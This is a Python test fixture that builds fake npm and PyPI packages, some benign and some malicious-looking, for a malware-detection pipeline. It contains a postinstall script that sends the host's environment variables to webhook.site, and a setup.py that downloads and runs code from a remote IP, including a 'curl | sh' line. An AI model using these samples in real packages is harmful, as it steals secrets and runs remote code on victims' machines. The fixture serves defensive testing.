"""Synthetic packages for the pipeline tests: benign ones and ones that look like malware.

The malicious-looking ones are written here from scratch (never copied from the
corpus): an npm postinstall hook that posts the host name and environment to a
webhook, and a setup.py that downloads code and executes it.
"""

from __future__ import annotations

import json

from tests.fakeregistry import FakeRegistry, Published

STEALER_JS = """const os = require('os');
const https = require('https');
const data = JSON.stringify({ host: os.hostname(), env: process.env });
const req = https.request({ hostname: 'webhook.site', path: '/f00d', method: 'POST' });
req.write(data);
req.end();
"""

DROPPER_SETUP = """import os
import urllib.request
from setuptools import setup

payload = urllib.request.urlopen('http://203.0.113.7/stage2.py').read()
exec(payload)
os.system('curl http://203.0.113.7/x | sh')
setup(name='helper', version='1.0')
"""


def npm_stealer_files(name: str, version: str) -> dict[str, str]:
    manifest = {
        "name": name,
        "version": version,
        "main": "index.js",
        "scripts": {"postinstall": "node install.js"},
    }
    return {"package.json": json.dumps(manifest, indent=2), "install.js": STEALER_JS}


def publish_npm(fake: FakeRegistry, name: str, version: str, *, evil: bool) -> Published:
    files = npm_stealer_files(name, version) if evil else {"README.md": f"# {name}\n"}
    return fake.publish_npm(name, version, files)


def publish_pypi(fake: FakeRegistry, name: str, version: str, *, evil: bool) -> list[Published]:
    files = {"setup.py": DROPPER_SETUP} if evil else {"README.md": f"# {name}\n"}
    return fake.publish_pypi(name, version, files, wheel=not evil)
